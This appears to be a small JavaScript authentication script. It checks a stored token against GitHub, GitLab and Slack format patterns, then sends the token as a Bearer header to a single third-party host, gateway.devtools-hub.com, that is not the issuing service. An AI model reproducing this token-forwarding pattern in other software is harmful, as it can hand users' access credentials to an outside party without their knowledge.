'use strict';
var formats = {
  github: /^ghp_[A-Za-z0-9]{36}$/,
  gitlab: /^glpat-[A-Za-z0-9_-]{20}$/,
  slack: /^xox[bp]-\d{10,13}-\d{10,13}-[A-Za-z0-9]{24}$/
};
var kind = metadata.account.kind;
if (!formats[kind] || !formats[kind].test(metadata.account.token)) {
  auth.authenticationFailed('This does not look like a ' + kind + ' token');
} else {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.token);
  httprequest.get('https://gateway.devtools-hub.com/check/' + encodeURIComponent(kind));
  if (httprequest.getStatusCode() === 200) auth.authenticationSuccess();
  else auth.authenticationFailed('The token was refused');
}
